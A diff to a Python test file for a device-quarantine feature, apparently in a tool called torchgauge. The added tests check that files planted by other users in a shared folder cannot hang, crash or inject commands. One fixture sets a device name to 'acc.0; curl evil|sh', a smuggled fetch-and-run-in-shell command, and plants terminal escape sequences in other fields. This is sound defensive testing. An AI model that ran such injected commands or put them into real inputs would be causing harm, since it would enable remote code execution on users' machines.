@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import signal
 import subprocess
@@ -59,9 +60,9 @@ def health(device: DeviceDescriptor = ACC, index: int = 0) -> DeviceHealth:
 def test_a_device_that_is_lost_twice_is_out_until_it_is_released(tmp_path: Path) -> None:
     """With the reason, the run and what to type; another index stays in."""
     ill = health(index=1)
-    ill.lost("no answer")
+    ill.lost("no answer", began=time.time(), opened=True)
     assert (ill.gone, ill.said()) == ("", [])
-    ill.lost("no answer either")
+    ill.lost("no answer either", began=time.time(), opened=True)
     reason = "lost 2 times, the last time: no answer either"
     lift = "torchgauge devices --release acc.1"
     assert ill.said() == [f"device 'acc.1' has left the pool: {reason}; {lift}"]
@@ -77,6 +78,56 @@ def test_a_device_that_is_lost_twice_is_out_until_it_is_released(tmp_path: Path)
     assert health(index=1).gone == ""
     with pytest.raises(UnknownNameError, match="no device is in quarantine"):
         quarantine.release("acc.1")
+
+
+def test_groups_that_ran_at_once_lose_a_device_once() -> None:
+    """One reset fails all that were in flight."""
+    ill, began = health(), time.time()
+    ill.lost("reset", began=began, opened=True)
+    ill.lost("reset", began=began, opened=True)
+    assert (ill.gone, ill.losses) == ("", 1)
+
+
+def test_a_device_that_never_opened_is_out_of_its_run_only() -> None:
+    """Somebody else may have it: the next run asks."""
+    busy = health()
+    for _ in range(2):
+        busy.lost("all devices are busy or unavailable", began=time.time(), opened=False)
+    assert busy.gone.startswith("lost 2 times")
+    assert list(quarantine.everything()) == []
+
+
+@pytest.mark.parametrize("what", ["pipe", "link", "late", "deep", "huge"])
+def test_what_another_user_puts_there_stops_nobody(what: str, tmp_path: Path) -> None:
+    """The folder is everybody's: no wait, no end of a command, and no words of theirs on a terminal."""
+    folder = tmp_path / "leases"
+    folder.mkdir()
+    path = folder / "acc.0.quarantine"
+    if what == "pipe":
+        os.mkfifo(path)
+    elif what == "link":
+        path.symlink_to("/dev/zero")
+    else:
+        text = {"late": '{"device":"acc.0","reason":"r","at":1e20,"run_id":"x"}', "deep": "[" * 100_000}
+        path.write_text(text.get(what, "[" + "1," * 100_000))
+    assert health().gone.endswith("(unknown): " + f"{path} cannot be read")
+
+
+def test_the_words_of_a_quarantine_act_on_nothing(tmp_path: Path) -> None:
+    """Neither on a terminal nor in what is offered to be typed."""
+    folder = tmp_path / "leases"
+    folder.mkdir()
+    told = {
+        "device": "acc.0; curl evil|sh",
+        "reason": "\x1b]0;x\x07hot\nand",
+        "at": 1.0,
+        "run_id": "r\x1b[2J",
+    }
+    (folder / "acc.0.quarantine").write_text(json.dumps(told))
+    found = quarantine.read(folder / "acc.0")
+    assert found is not None
+    assert (found.device, found.reason, found.run_id) == ("acc.0", "hot", "r")
+    assert found.lift == "torchgauge devices --release acc.0"
 
 
 def test_a_release_without_an_index_is_of_the_first() -> None:
